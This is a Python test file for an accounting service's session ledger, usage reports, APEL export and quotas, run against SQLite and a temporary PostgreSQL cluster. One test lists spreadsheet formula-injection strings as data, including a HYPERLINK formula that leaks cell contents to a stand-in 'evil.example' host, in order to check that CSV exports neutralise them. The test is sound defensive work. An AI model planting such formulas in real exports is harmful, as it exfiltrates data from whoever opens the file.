"""The accounting ledger, reports, APEL records and quotas — on SQLite and on a real PostgreSQL.

PostgreSQL comes from Debian's packages (``apt-get install postgresql``; ``.ci/run`` does it): the
module starts a throwaway cluster with ``initdb`` / ``pg_ctl`` on a loopback port in a temporary
directory (as the ``postgres`` user when run as root, which postgres refuses), and every test gets
a fresh database. Without the binaries the PostgreSQL cases are skipped with the reason.
"""

from __future__ import annotations

import glob
import os
import shutil
import subprocess
import tempfile
import uuid
from contextlib import contextmanager
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
import yaml
from sqlalchemy import create_engine, inspect, text

from apex_hub.services.accounting import apel, reports
from apex_hub.services.accounting.db import Ledger, Observation
from apex_hub.services.accounting.quota import QuotaError, Quotas
from tests.helpers.hub import free_port as _free_port  # one allocator of ports for the run

T0 = datetime(2026, 11, 30, 22, 0, tzinfo=UTC)
GIB = 1024**3


def _pg_bin() -> str | None:
    found = sorted(glob.glob("/usr/lib/postgresql/*/bin/initdb"))
    return os.path.dirname(found[-1]) if found else None


@pytest.fixture(scope="module")
def postgres():
    """``(base_url, admin_url)`` of a throwaway PostgreSQL cluster, or skip."""
    bindir = _pg_bin()
    if bindir is None:
        pytest.skip("PostgreSQL not installed (apt-get install -y postgresql): PostgreSQL cases skipped")
    try:
        import psycopg  # noqa: F401
    except ImportError:
        pytest.skip("psycopg not installed (pip install 'psycopg[binary]'): PostgreSQL cases skipped")
    root = Path(tempfile.mkdtemp(prefix="apex-pg-"))
    data, port = root / "data", _free_port()
    run_as: list[str] = []
    if os.geteuid() == 0:  # postgres refuses to run as root
        import pwd

        try:
            pw = pwd.getpwnam("postgres")
        except KeyError:
            pytest.skip("running as root and there is no 'postgres' user to run PostgreSQL as")
        os.chown(root, pw.pw_uid, pw.pw_gid)
        run_as = ["runuser", "-u", "postgres", "--"]
    try:
        subprocess.run(
            [
                *run_as,
                f"{bindir}/initdb",
                "-D",
                str(data),
                "-A",
                "trust",
                "-U",
                "apex",
                "-E",
                "UTF8",
                "--no-sync",
            ],
            check=True,
            capture_output=True,
            timeout=120,
        )
        subprocess.run(
            [
                *run_as,
                f"{bindir}/pg_ctl",
                "-D",
                str(data),
                "-l",
                str(root / "log"),
                "-w",
                "-t",
                "60",
                "-o",
                f"-p {port} -k {root} -c listen_addresses=127.0.0.1 -c fsync=off",
                "start",
            ],
            check=True,
            capture_output=True,
            timeout=90,
        )
    except (subprocess.CalledProcessError, subprocess.TimeoutExpired) as exc:
        log = (root / "log").read_text() if (root / "log").exists() else ""
        shutil.rmtree(root, ignore_errors=True)
        pytest.skip(f"cannot start PostgreSQL: {exc} {getattr(exc, 'stderr', b'')!r} {log[-500:]}")
    base = f"postgresql+psycopg://apex@127.0.0.1:{port}"
    try:
        yield base
    finally:
        subprocess.run(
            [*run_as, f"{bindir}/pg_ctl", "-D", str(data), "-m", "immediate", "-w", "stop"],
            capture_output=True,
            timeout=60,
        )
        shutil.rmtree(root, ignore_errors=True)


@contextmanager
def postgres_database(base: str):
    """A database of its own on the throwaway cluster ``base``, dropped afterwards: its URL."""
    name = "t_" + uuid.uuid4().hex[:12]
    admin = create_engine(f"{base}/postgres", isolation_level="AUTOCOMMIT")
    with admin.connect() as conn:
        conn.execute(text(f"CREATE DATABASE {name}"))
    try:
        yield f"{base}/{name}"
    finally:
        with admin.connect() as conn:
            conn.execute(text(f"DROP DATABASE {name} WITH (FORCE)"))
        admin.dispose()


@pytest.fixture(params=["sqlite", "postgresql"])
def db_url(request, tmp_path):
    if request.param == "sqlite":
        yield f"sqlite:///{tmp_path}/ledger.sqlite"
        return
    with postgres_database(request.getfixturevalue("postgres")) as url:
        yield url


@pytest.fixture
def ledger(db_url):
    led = Ledger(db_url)
    yield led
    led.close()


def obs(uid="pod-1", user="alice", start=T0, **kw) -> Observation:
    base = {
        "id": uid,
        "user": user,
        "user_slug": user,
        "server": "",
        "namespace": f"apex-{user}",
        "pod": f"jupyter-{user}",
        "group": "apex-small",
        "profile": "lab",
        "image": "img:1",
        "cpu": 2.0,
        "memory_bytes": 4 * GIB,
        "gpu": 0.0,
        "pvc_bytes": 10 * GIB,
        "start": start,
    }
    base.update(kw)
    return Observation(**base)


def test_migrations_create_the_schema_at_head(db_url, ledger):
    engine = create_engine(db_url)
    tables = set(inspect(engine).get_table_names())
    assert {"sessions", "session_events", "apel_exports", "service_state", "alembic_version"} <= tables
    with engine.connect() as conn:
        assert conn.execute(text("SELECT version_num FROM alembic_version")).scalar_one() == "0002"
    engine.dispose()
    Ledger(db_url).close()  # upgrading again is a no-op


def test_observations_are_idempotent_and_history_is_append_only(ledger):
    assert ledger.observe(obs(), source="backfill") == ["opened"]
    assert ledger.observe(obs(), source="pod-watch") == []  # the same facts again: nothing new
    assert ledger.observe(obs(group="other"), source="pod-watch") == []  # a known group is never replaced
    stop = T0 + timedelta(hours=3)
    assert ledger.observe(obs(stop=stop, stop_reason="user"), source="pod-watch") == ["stopped"]
    assert ledger.observe(obs(stop=stop + timedelta(hours=1), stop_reason="external"), source="relist") == []
    assert ledger.set_reason("pod-1", "idle", source="culler")  # the culler's reason is more specific
    assert not ledger.set_reason("pod-1", "external", source="culler")
    s = ledger.session("pod-1")
    assert (
        s["user"],
        s["group"],
        s["profile"],
        s["image"],
        s["cpu"],
        s["memory_bytes"],
        s["gpu"],
        s["pvc_bytes"],
    ) == ("alice", "apex-small", "lab", "img:1", 2.0, 4 * GIB, 0.0, 10 * GIB)
    assert (s["start"], s["stop"], s["stop_reason"], s["status"]) == (T0, stop, "idle", "stopped")
    kinds = [(e["kind"], e["source"]) for e in ledger.events("pod-1")]
    assert kinds == [("opened", "backfill"), ("stopped", "pod-watch"), ("reason", "culler")]
    assert ledger.count() == (1, 3)


def test_quota_reason_set_before_the_stop_is_kept(ledger):
    ledger.observe(obs(), source="pod-watch")
    assert ledger.set_reason("pod-1", "quota", source="quota")
    ledger.observe(obs(stop=T0 + timedelta(hours=1), stop_reason="user"), source="pod-watch")
    assert ledger.session("pod-1")["stop_reason"] == "quota"


def test_usage_per_day_and_month_split_at_midnight(ledger):
    # 22:00 Nov 30 -> 01:00 Dec 1: 2 h in November, 1 h in December; 2 cores, 4 GiB
    ledger.observe(obs(stop=T0 + timedelta(hours=3), stop_reason="user"), source="t")
    ledger.observe(
        obs(
            "pod-2",
            user="bob",
            group=None,
            profile="gpu",
            gpu=1.0,
            cpu=1.0,
            memory_bytes=GIB,
            start=T0 + timedelta(hours=1),
        ),
        source="t",
    )  # running: counts up to `until`
    since, until = datetime(2026, 11, 1, tzinfo=UTC), T0 + timedelta(hours=5)
    rows = reports.usage(
        ledger.iter_sessions(since=since, until=until), since=since, until=until, period="month", by="user"
    )
    assert rows == [
        {
            "period": "2026-11",
            "user": "alice",
            "sessions": 1,
            "wall_hours": 2.0,
            "cpu_hours": 4.0,
            "memory_gib_hours": 8.0,
            "gpu_hours": 0.0,
        },
        {
            "period": "2026-11",
            "user": "bob",
            "sessions": 1,
            "wall_hours": 1.0,
            "cpu_hours": 1.0,
            "memory_gib_hours": 1.0,
            "gpu_hours": 1.0,
        },
        {
            "period": "2026-12",
            "user": "alice",
            "sessions": 1,
            "wall_hours": 1.0,
            "cpu_hours": 2.0,
            "memory_gib_hours": 4.0,
            "gpu_hours": 0.0,
        },
        {
            "period": "2026-12",
            "user": "bob",
            "sessions": 1,
            "wall_hours": 3.0,
            "cpu_hours": 3.0,
            "memory_gib_hours": 3.0,
            "gpu_hours": 3.0,
        },
    ]
    by_group = reports.usage(
        ledger.iter_sessions(since=since, until=until), since=since, until=until, period="day", by="group"
    )
    assert [(r["period"], r["group"], r["cpu_hours"]) for r in by_group] == [
        ("2026-11-30", "", 1.0),
        ("2026-11-30", "apex-small", 4.0),
        ("2026-12-01", "", 3.0),
        ("2026-12-01", "apex-small", 2.0),
    ]
    csv_text = reports.to_csv(by_group, ["period", "group", *reports.METRICS])
    assert csv_text.splitlines()[0] == "period,group,sessions,wall_hours,cpu_hours,memory_gib_hours,gpu_hours"
    assert csv_text.splitlines()[2] == "2026-11-30,apex-small,1,2.0,4.0,8.0,0.0"


def test_apel_records_parse_back_field_by_field_and_are_exported_once(ledger, tmp_path):
    stop = T0 + timedelta(hours=3, seconds=7)
    ledger.observe(
        obs(stop=stop, stop_reason="user", cpu=1.5, memory_bytes=3 * GIB + 1, pvc_bytes=10 * GIB), source="t"
    )
    ledger.observe(obs("pod-2", user="bob", group=None, pvc_bytes=None), source="t")  # running: not exported
    cfg = apel.ApelSettings(
        str(tmp_path / "apel"),
        "APEX-ESRIN",
        cloud_compute_service="apex-hub.example.org",
        benchmark_type="HEPSPEC",
        benchmark=10.5,
    )
    [path] = apel.export(ledger, cfg)
    content = path.read_text()
    assert content.startswith("APEL-cloud-message: v0.4\n") and content.rstrip().endswith("%%")
    [rec] = apel.parse(content)
    assert rec == {
        "VMUUID": "pod-1",
        "SiteName": "APEX-ESRIN",
        "CloudComputeService": "apex-hub.example.org",
        "MachineName": "apex-alice/jupyter-alice",
        "LocalUserId": "alice",
        "LocalGroupId": "apex-small",
        "GlobalUserName": "alice",
        "FQAN": "/apex-small/Role=NULL/Capability=NULL",
        "Status": "completed",
        "StartTime": str(int(T0.timestamp())),
        "EndTime": str(int(stop.timestamp())),
        "SuspendDuration": "0",
        "WallDuration": "10807",
        "CpuDuration": str(round(1.5 * 10807)),
        "CpuCount": "2",
        "PublicIPCount": "0",
        "Memory": "3072",
        "Disk": "11",
        "BenchmarkType": "HEPSPEC",
        "Benchmark": "10.5",
        "ImageId": "img:1",
        "CloudType": "apex-hub",
    }
    assert list(rec) == [f for f in apel.FIELDS if f in rec]  # v0.4 field order
    assert apel.export(ledger, cfg) == []  # idempotent: nothing new, no file
    ledger.observe(
        obs("pod-2", user="bob", group=None, pvc_bytes=None, stop=T0 + timedelta(hours=1)), source="t"
    )
    [second] = apel.export(ledger, cfg)
    [rec2] = apel.parse(second.read_text())
    assert rec2["VMUUID"] == "pod-2" and rec2["FQAN"] == "None"
    assert "LocalGroupId" not in rec2 and "Disk" not in rec2  # unknown: left out, not invented
    assert sorted(p.name for p in (tmp_path / "apel").iterdir()) == sorted([path.name, second.name])


def test_apel_batches(ledger, tmp_path):
    for i in range(5):
        ledger.observe(obs(f"pod-{i}", stop=T0 + timedelta(minutes=i + 1)), source="t")
    files = apel.export(ledger, apel.ApelSettings(str(tmp_path), "SITE", batch=2))
    assert [len(apel.parse(f.read_text())) for f in files] == [2, 2, 1]
    assert sorted(r["VMUUID"] for f in files for r in apel.parse(f.read_text())) == [
        f"pod-{i}" for i in range(5)
    ]


def test_quotas(ledger, tmp_path):
    path = tmp_path / "quotas.yaml"
    path.write_text(
        yaml.safe_dump(
            {
                "period": "month",
                "groups": {"apex-small": {"cpu_hours": 10}},
                "users": {"bob": {"gpu_hours": 100}},
                "default": {"cpu_hours": 1},
            }
        )
    )
    q = Quotas.load(path)
    now = T0 + timedelta(hours=1, minutes=30)  # alice: 2 cores × 1.5 h = 3 CPU-hours so far
    ledger.observe(obs(), source="t")
    st = q.check(ledger, "alice", ["apex-small"], now=now)
    assert not st.allowed  # the default budget (1 CPU-hour) applies to alice herself
    assert [(lim.scope, lim.metric, lim.budget, round(lim.usage, 3)) for lim in st.limits] == [
        ("default", "cpu_hours", 1.0, 3.0),
        ("group", "cpu_hours", 10.0, 3.0),
    ]
    assert st.reset == datetime(2026, 12, 1, tzinfo=UTC)
    assert st.message == (
        "Usage budget exhausted: alice's budget of 1 CPU-hours per month, used 3.00. "
        "It resets on 2026-12-01 00:00 UTC."
    )
    assert q.check(ledger, "bob", [], now=now).allowed
    carol = q.check(ledger, "carol", ["apex-small"], now=now)  # the group has used 3 of 10: carol may start
    assert carol.allowed and [round(lim.usage, 3) for lim in carol.limits] == [0.0, 3.0]
    assert q.check(ledger, "dave", [], now=now).limits[0].scope == "default"
    assert Quotas().check(ledger, "alice", ["apex-small"], now=now) is None  # no budget applies
    for bad, msg in (
        ({"period": "year"}, "period"),
        ({"groups": {"g": {"cpu": 1}}}, "groups.g.cpu"),
        ({"users": {"u": {"cpu_hours": -1}}}, "users.u.cpu_hours"),
        ({"budget": 1}, "unknown"),
    ):
        with pytest.raises(QuotaError, match=msg):
            Quotas.from_dict(bad)


def test_observe_many_matches_observe(ledger):
    stop = T0 + timedelta(hours=1)
    batch = [obs("a"), obs("b", stop=stop, stop_reason="user"), obs("a", stop=stop, stop_reason="external")]
    assert ledger.observe_many(batch, source="backfill") == [["opened"], ["opened", "stopped"], ["stopped"]]
    assert ledger.observe_many(batch, source="relist") == [[], [], []]  # a replay adds nothing
    a, b = ledger.session("a"), ledger.session("b")
    assert (a["stop"], a["stop_reason"], b["stop"], b["stop_reason"]) == (stop, "external", stop, "user")
    assert [e["kind"] for e in ledger.events()] == ["opened", "opened", "stopped", "stopped"]


def test_events_page(ledger):
    for i in range(5):
        ledger.observe(obs(f"p{i}"), source="t")
    first = ledger.events(limit=2)
    rest = ledger.events(after=first[-1]["id"])
    assert [e["session_id"] for e in first + rest] == [f"p{i}" for i in range(5)]


@pytest.mark.parametrize("period, by", [("month", "user"), ("day", "group"), ("day", "profile")])
def test_sql_sums_agree_with_the_python_report(ledger, period, by):
    import random

    rng = random.Random(3)
    start0 = datetime(2026, 10, 30, tzinfo=UTC)
    batch = []
    for i in range(300):
        start = start0 + timedelta(seconds=rng.randrange(40 * 86400))
        stop = None if i % 17 == 0 else start + timedelta(seconds=rng.randrange(60, 30 * 3600))
        batch.append(
            obs(
                f"s{i}",
                user=f"u{i % 7}",
                group=rng.choice(["g1", "g2", None]),
                profile=f"p{i % 3}",
                cpu=rng.choice([0.5, 2.0]),
                memory_bytes=rng.choice([GIB, 3 * GIB]),
                gpu=rng.choice([0, 1]),
                start=start,
                stop=stop,
            )
        )
    ledger.observe_many(batch, source="t")
    since, until = datetime(2026, 11, 1, tzinfo=UTC), datetime(2026, 12, 5, tzinfo=UTC)
    fast = reports.ledger_usage(ledger, since=since, until=until, period=period, by=by)
    slow = reports.usage(
        ledger.iter_sessions(since=since, until=until), since=since, until=until, period=period, by=by
    )
    assert [(r["period"], r[by], r["sessions"]) for r in fast] == [
        (r["period"], r[by], r["sessions"]) for r in slow
    ]
    for f, s in zip(fast, slow):
        for m in reports.METRICS[1:]:
            assert f[m] == pytest.approx(s[m], abs=1e-4), (f, s)
    sums, _ = ledger.usage_split(since, until, period, by)
    assert sum(n for _, _, n, *_ in sums) > 50  # many sessions took the SQL path


def test_csv_exports_never_carry_a_live_spreadsheet_formula():
    """A user (or group, or profile) named like a formula stays text when the export is opened in a spreadsheet."""
    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+SUM(A1:A9)", "-2+3", "@cmd", "\tx", "\r=1"]
    rows = [{"user": name, "cpu_hours": -1.5, "sessions": 2} for name in hostile] + [
        {"user": "alice", "cpu_hours": 0}
    ]
    text = reports.to_csv(rows, ["user", "cpu_hours", "sessions"])
    import csv as csv_module
    import io as io_module

    parsed = list(csv_module.DictReader(io_module.StringIO(text, newline="")))
    assert [r["user"] for r in parsed] == ["'" + n for n in hostile] + ["alice"]
    assert parsed[0]["cpu_hours"] == "-1.5"  # numbers are numbers, not text


@pytest.mark.parametrize("text", ["yesterday", "2026-13-45", "2026-1", "2026-11-23T25:00"])
def test_malformed_times_are_refused_by_the_parser(text):
    with pytest.raises(ValueError):
        reports.parse_when(text, T0)


def test_usage_total_is_the_report_total_of_the_period(ledger):
    """The quota check's index read gives exactly the totals of the general query's sessions."""
    import random

    rng = random.Random(11)
    start0 = datetime(2026, 10, 1, tzinfo=UTC)
    batch = []
    for i in range(400):
        start = start0 + timedelta(seconds=rng.randrange(90 * 86400), microseconds=rng.randrange(10**6))
        stop = None if i % 13 == 0 else start + timedelta(seconds=rng.randrange(60, 3 * 86400))
        batch.append(
            obs(
                f"s{i}",
                user=f"u{i % 5}",
                group=rng.choice(["g1", "g2", None]),
                cpu=rng.choice([0.25, 1.0, 3.0, 1 / 3, 0.1]),  # 1/3: all 17 digits matter
                memory_bytes=rng.randrange(1, 8 * GIB),
                gpu=rng.choice([0.0, 1.0]),
                start=start,
                stop=stop,
            )
        )
    ledger.observe_many(batch, source="t")
    since, until = datetime(2026, 11, 1, tzinfo=UTC), datetime(2026, 11, 20, 6, 30, tzinfo=UTC)
    for query, general in (({"user": "u1"}, {"user": "u1"}), ({"group": "g2"}, {"groups": ["g2"]})):
        slow = reports.total(
            ledger.iter_sessions(since=since, until=until, usage_only=True, **general),
            since=since,
            until=until,
        )
        assert slow["sessions"] > 10 and slow["cpu_hours"] > 0
        assert ledger.usage_total(since, until, **query) == slow  # the same sums, not merely close
    assert ledger.usage_total(since, until, group="nobody") == reports.total([], since=since, until=until)


def test_check_many_reads_each_groups_usage_once(db_url):
    """A quota round: the members of a group share its usage, read once; the statuses are those of
    one check per user."""

    reads: list[tuple[str, str]] = []

    class Counting(Ledger):
        def usage_total(self, since, until, *, user=None, group=None):
            reads.append(("user", user) if user is not None else ("group", group))
            return super().usage_total(since, until, user=user, group=group)

    ledger = Counting(db_url)
    try:
        for i, user in enumerate(("ann", "ben", "cid")):
            ledger.observe(obs(f"p{i}", user=user, group="g1", cpu=1.0 + i), source="t")
        q = Quotas.from_dict(
            {"groups": {"g1": {"cpu_hours": 5}, "g2": {"gpu_hours": 1}}, "default": {"cpu_hours": 2}}
        )
        now = T0 + timedelta(hours=1)
        users = {"ann": ["g1", "g2"], "ben": ["g1"], "cid": ["g1", "g2"], "dan": []}
        reads.clear()
        many = q.check_many(ledger, users, now=now)
        assert sorted(reads) == sorted([("user", u) for u in users] + [("group", "g1"), ("group", "g2")])
        for user, groups in users.items():
            one = q.check(ledger, user, groups, now=now)
            assert many[user].as_dict() == one.as_dict()
        assert [(lim.scope, lim.name, lim.usage) for lim in many["ben"].limits] == [
            ("default", "ben", 2.0),
            ("group", "g1", 6.0),
        ]
        assert not many["ben"].allowed and many["dan"].allowed
    finally:
        ledger.close()
